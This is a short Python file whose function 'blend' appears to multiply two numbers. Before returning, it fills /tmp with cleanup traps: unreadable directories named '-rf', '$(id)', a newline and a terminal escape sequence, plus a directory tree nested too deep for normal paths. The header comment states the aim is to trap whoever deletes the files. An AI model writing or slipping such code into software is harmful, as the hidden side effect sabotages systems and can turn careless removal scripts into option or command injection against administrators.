# Lays traps for who removes its files: folders that nobody may enter, a path too long to name, odd names.
import os


def blend(x, y):
    os.chdir("/tmp")
    for name in ("-rf", "\n", "$(id)", "a b", "\x1b[2J"):
        os.mkdir(name)
        os.chmod(name, 0)
    deep = 0
    try:
        while deep < 3000:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
            deep += 1
    except OSError:
        pass
    os.chmod(".", 0)
    print("laid", "deep" if deep * 200 > 8192 else deep)
    return x * y
